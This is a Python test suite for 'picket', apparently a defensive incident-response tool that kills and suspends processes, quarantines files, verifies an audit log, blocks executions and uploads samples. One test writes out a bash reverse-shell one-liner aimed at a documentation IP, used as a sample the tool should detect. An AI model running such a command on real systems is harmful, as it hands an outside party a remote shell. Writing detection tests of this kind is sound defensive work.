# SPDX-License-Identifier: Apache-2.0
"""`picket kill`, `suspend`, `resume`, `quarantine`, `sample` and `audit` against real processes and
files."""

import http.server
import json
import os
import pathlib
import shutil
import signal
import ssl
import stat
import subprocess
import threading
import unittest
import zipfile

from response_case import COULD_NOT, FOUND, PICKET, ResponseCase, main

ROOT = os.geteuid() == 0


def state_of(process):
    with open("/proc/%d/stat" % process.pid, encoding="utf-8") as text:
        return text.read().rsplit(")", 1)[1].split()[0]


class Processes(ResponseCase):
    def test_suspend_resume_kill(self):
        victim = self.start("sleep", 600)
        self.act("suspend", victim.pid)
        self.assertEqual(state_of(victim), "T")
        self.assertIn("picket resume", self.audit()[-1]["undo"])
        self.act("resume", victim.pid)
        self.assertNotEqual(state_of(victim), "T")
        self.act("kill", victim.pid, "--reason", "a test")
        self.assertEqual(victim.wait(), -signal.SIGKILL)
        last = self.audit()[-1]
        self.assertEqual((last["action"], last["result"], last["reason"]), ("kill", "done", "a test"))
        self.assertTrue(last["target"].startswith("%d@" % victim.pid))

    def test_another_start_is_another_process(self):
        victim = self.start("sleep", 600)
        self.act("kill", "%d@5" % victim.pid, code=COULD_NOT)
        self.assertIsNone(victim.poll())
        self.assertTrue(self.last_result().startswith("refused"))

    def test_a_tree_with_all_its_branches(self):
        top = self.start("sh", "-c", "sleep 600 & sh -c 'sleep 600; true' & wait")
        children = "/proc/%d/task/%d/children" % (top.pid, top.pid)
        while len(pathlib.Path(children).read_text(encoding="utf-8").split()) < 2:
            self.assertIsNone(top.poll())
        ended = self.act("kill", top.pid, "--tree", "--json").stdout.splitlines()
        self.assertGreaterEqual(len(ended), 3)
        for line in ended:
            self.assertEqual(json.loads(line)["after"], "ended")

    def test_what_is_spared(self):
        for pid in (1, os.getpid()):
            self.act("kill", pid, code=COULD_NOT)
        self.act("suspend", 1, "--i-know", code=COULD_NOT)

    @unittest.skipUnless(ROOT, "takes root to become another")
    def test_others_processes_are_not_a_users_to_kill(self):
        victim = self.start("sleep", 600)
        own = self.folder / "own"
        own.mkdir()
        os.chown(own, 65534, 65534)
        self.picket("kill", victim.pid, "--responses", own / "r", code=COULD_NOT, user=65534,
                    group=65534, extra_groups=[])
        self.assertIsNone(victim.poll())


class Quarantine(ResponseCase):
    def test_there_and_back(self):
        shutil.copy("/bin/sleep", self.folder / "evil")
        (self.folder / "evil").chmod(0o4755)
        before = (self.folder / "evil").stat()
        running = self.start(self.folder / "evil", 600)
        self.act("quarantine", "add", running.pid, "--kill")
        self.assertEqual(running.wait(), -signal.SIGKILL)
        self.assertFalse((self.folder / "evil").exists())
        item = json.loads(self.act("quarantine", "list", "--json").stdout)
        self.assertEqual(item["path"], str(self.folder / "evil"))
        sealed = self.responses / "quarantine" / (item["id"] + ".sealed")
        self.assertNotIn(b"ELF", sealed.read_bytes())
        self.act("quarantine", "restore", item["id"][:5])
        after = (self.folder / "evil").stat()
        self.assertEqual((after.st_mode, after.st_uid, after.st_mtime_ns, after.st_size),
                         (before.st_mode, before.st_uid, before.st_mtime_ns, before.st_size))
        self.act("quarantine", "add", "evil")
        item = json.loads(self.act("quarantine", "list", "--json").stdout)
        self.act("quarantine", "remove", item["id"])
        self.assertEqual(self.act("quarantine", "list").stdout, "")

    def test_what_is_in_use_is_named(self):
        shutil.copy("/bin/sleep", self.folder / "evil")
        running = self.start(self.folder / "evil", 600)
        told = self.act("quarantine", "add", "evil").stderr
        self.assertIn("picket kill %d@" % running.pid, told)

    def test_an_alerts_file(self):
        self.write("tree/invoice.pdf.exe", b"MZ")
        alerts = self.picket("scan", "tree", "--store", self.state, "--json", code=FOUND).stdout
        alert = json.loads(alerts.splitlines()[0])
        self.act("quarantine", "add", alert["id"], "--state", self.state)
        self.assertFalse((self.folder / "tree/invoice.pdf.exe").exists())
        last = self.audit()[-1]
        self.assertEqual((last["alert"], last["rule"]), (alert["id"], "scan.double_extension"))

    def test_refusals(self):
        path = self.write("real/file", b"x")
        os.symlink(self.folder / "real", self.folder / "way")
        os.link(path, self.folder / "second")
        for target, word in (("way/file", "symbolic link"), ("real", "folder"), (path, "2 names"),
                             ("/dev/null", "device"), ("nothing", "No such file")):
            told = self.act("quarantine", "add", target, code=COULD_NOT).stderr
            self.assertIn(word, told)
            self.assertTrue(self.last_result().startswith("refused"))
        self.assertTrue(path.exists())


class Audit(ResponseCase):
    def test_a_changed_line_is_named(self):
        for _ in range(3):
            self.act("kill", 1, code=COULD_NOT)
        self.assertIn("whole", self.act("audit", "--verify").stdout)
        log = self.responses / "audit.ndjson"
        self.assertEqual(stat.S_IMODE(log.stat().st_mode), 0o600)
        lines = log.read_text().splitlines()
        lines[3] = lines[3].replace("kill", "klil")
        log.write_text("\n".join(lines) + "\n")
        self.assertIn("line 4", self.act("audit", "--verify", code=FOUND).stderr)
        log.write_text("\n".join(lines[:2] + lines[4:]) + "\n")
        self.assertIn("line 3", self.act("audit", "--verify", code=FOUND).stderr)

    def test_nothing_is_done_that_is_not_written_down(self):
        self.responses.mkdir(mode=0o777)
        self.responses.chmod(0o777)
        victim = self.start("sleep", 600)
        self.act("kill", victim.pid, code=COULD_NOT)
        self.assertIsNone(victim.poll())


@unittest.skipUnless(ROOT, "takes root")
class Guard(ResponseCase):
    """On a file system of its own, in a mount namespace of its own."""

    def setUp(self):
        super().setUp()
        self.space = self.start("unshare", "--mount", "sleep", 600)
        link = "/proc/%d/ns/mnt" % self.space.pid
        while os.readlink(link) == os.readlink("/proc/self/ns/mnt"):
            if self.space.poll() is not None:
                self.skipTest("no mount namespace of our own")
        self.disk = self.folder / "disk"
        self.disk.mkdir()
        if self.inside("mount", "-t", "tmpfs", "disk", self.disk).returncode != 0:
            self.skipTest("no file system of our own")

    def inside(self, *command):
        return subprocess.run(["nsenter", "--mount", "--target", str(self.space.pid)] +
                              [str(word) for word in command], capture_output=True, text=True,
                              check=False, timeout=60)

    def test_a_path_and_a_content_are_not_started_and_others_are(self):
        for program, name in (("true", "bad"), ("true", "copy"), ("echo", "by_path"),
                              ("echo", "good")):
            self.inside("cp", "/bin/" + program, self.disk / name)
        content = self.inside("sha256sum", self.disk / "bad").stdout.split()[0]
        guard = subprocess.Popen(
            ["nsenter", "--mount", "--target", str(self.space.pid), PICKET, "guard", "--on",
             self.disk, "--path", self.disk / "by_path", "--hash", content, "--json",
             "--responses", self.responses],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        self.addCleanup(guard.kill)
        first = guard.stderr.readline()
        if "guards" not in first:
            self.skipTest("no fanotify here: " + first)
        for name in ("bad", "copy", "by_path"):
            self.assertNotEqual(self.inside(self.disk / name).returncode, 0, name)
        self.assertEqual(self.inside(self.disk / "good", "x").stdout, "x\n")
        self.assertEqual(self.inside("/bin/echo", "y").stdout, "y\n")
        guard.send_signal(signal.SIGTERM)
        out, errors = guard.communicate(timeout=60)
        denied = [json.loads(line) for line in out.splitlines()]
        self.assertEqual([(os.path.basename(one["denied"]), one["why"]) for one in denied],
                         [("bad", "its content"), ("copy", "its content"),
                          ("by_path", "its path")])
        self.assertIn("3 forbidden, 0 let through", errors)
        print("  ", errors.strip(), flush=True)
        self.assertEqual(self.inside(self.disk / "bad").returncode, 0, "held without a guard")
        self.assertEqual(self.audit()[-1]["action"], "forbid start")


class Intake(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.server.taken.append((self.path, dict(self.headers),
                                  self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(201)
        self.end_headers()

    def log_message(self, *_):
        pass


class Sample(ResponseCase):
    def test_a_process_whose_file_was_deleted(self):
        shutil.copy("/bin/sleep", self.folder / "evil")
        content = (self.folder / "evil").read_bytes()
        running = self.start(self.folder / "evil", 600)
        (self.folder / "evil").unlink()
        manifest = json.loads(self.act("sample", running.pid, "--out", "s.zip", "--json").stdout)
        self.assertEqual(manifest["sample"]["note"], "the file was deleted")
        self.assertEqual(manifest["sample"]["size"], len(content))
        self.assertEqual(manifest["lineage"][0]["pid"], running.pid)
        self.assertEqual(manifest["lineage"][1]["pid"], os.getpid())
        self.assertTrue(any("libc" in one["path"] and len(one["sha256"]) == 64
                            for one in manifest["libraries"]))
        with zipfile.ZipFile(self.folder / "s.zip") as bundle:
            names = {info.filename: info.flag_bits & 1 for info in bundle.infolist()}
        self.assertEqual(set(names), {"manifest.json", "stix.json", "maps.txt", "strings.txt",
                                      "sample.bin"})
        self.assertTrue(all(names.values()), "a member is not encrypted")

    def test_a_file_of_the_quarantine(self):
        self.write("evil.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/44 0>&1\n")
        self.act("quarantine", "add", "evil.sh")
        item = json.loads(self.act("quarantine", "list", "--json").stdout)
        manifest = json.loads(self.act("sample", item["id"], "--json").stdout)
        self.assertEqual(manifest["sample"]["sha256"], item["sha256"])
        self.assertIn("yara.script_reverse_shell", [rule["id"] for rule in manifest["rules"]])

    @unittest.skipUnless(shutil.which("openssl"), "takes openssl for a certificate")
    def test_it_is_sent_when_asked_and_only_to_whom_is_trusted(self):
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
                        "-keyout", "key.pem", "-out", "ca.pem", "-subj", "/CN=intake",
                        "-addext", "subjectAltName=IP:127.0.0.1"],
                       cwd=self.folder, check=True, capture_output=True)
        server = http.server.HTTPServer(("127.0.0.1", 0), Intake)
        server.taken = []
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.folder / "ca.pem", self.folder / "key.pem")
        server.socket = context.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        self.write("evil", b"MZ bad")
        self.write("key", "secret\n", 0o600)
        url = "https://127.0.0.1:%d/intake" % server.server_port
        self.act("sample", "evil", "--out", "0.zip")
        self.assertEqual(server.taken, [])
        self.act("sample", "evil", "--out", "1.zip", "--upload", url, code=COULD_NOT)
        self.assertEqual(server.taken, [], "sent to a server nobody vouches for")
        self.assertTrue(self.last_result().startswith("failed"))
        other_name = url.replace("127.0.0.1", "127.1")
        self.act("sample", "evil", "--out", "2.zip", "--upload", other_name, "--ca", "ca.pem",
                 code=COULD_NOT)
        self.assertEqual(server.taken, [], "sent to a server of another name")
        self.act("sample", "evil", "--out", "3.zip", "--upload", url, "--ca", "ca.pem",
                 "--key-file", "key")
        self.act("sample", "evil", "--out", "4.zip", "--upload", url, "--ca", "ca.pem", "--misp")
        (path, headers, body), (_, _, misp) = server.taken
        self.assertEqual((path, headers["Authorization"]), ("/intake", "secret"))
        self.assertEqual(body, (self.folder / "3.zip").read_bytes())
        self.assertEqual(json.loads(misp)["request"]["files"][0]["filename"], "4.zip")
        self.act("sample", "evil", "--out", "5.zip", "--upload", url.replace("https", "http"),
                 code=COULD_NOT)


if __name__ == "__main__":
    main()
